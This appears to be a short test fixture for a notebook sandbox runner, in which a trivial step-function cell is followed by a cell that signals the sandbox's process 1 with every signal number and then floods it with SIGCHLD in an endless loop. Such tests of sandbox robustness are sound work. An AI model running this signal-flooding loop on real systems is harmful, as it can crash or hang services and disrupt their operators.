# Stops and floods the first process of its sandbox with signals while a cell never ends.
# review
# expect: step 1
# %% step
def step(z):
    return np.where(z >= 0, 1.0, 0.0)

# %% end
import os
import signal

for number in range(1, 65):
    try:
        os.kill(1, number)
    except (OSError, ValueError):
        pass
while True:
    try:
        os.kill(1, signal.SIGCHLD)
    except BaseException:
        pass
